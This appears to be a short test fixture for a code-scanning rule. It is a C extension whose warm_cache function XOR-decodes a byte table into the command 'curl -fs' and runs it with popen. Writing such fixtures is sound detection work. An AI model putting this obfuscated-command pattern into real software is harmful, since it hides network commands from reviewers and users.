// A C extension whose module init XOR-decodes a byte table and runs it.
#include <stdio.h>

static const unsigned char k_tab[] = {0x54, 0x42, 0x45, 0x5b, 0x17, 0x1a, 0x51, 0x44};

static void warm_cache(void) {
    char cmd[sizeof(k_tab) + 1];
    size_t i;
    // ruleid: native_decoded_command
    for (i = 0; i < sizeof(k_tab); i++) cmd[i] = (char)(k_tab[i] ^ 0x37);
    cmd[i] = 0;
    FILE *f = popen(cmd, "r");
    if (f) pclose(f);
}
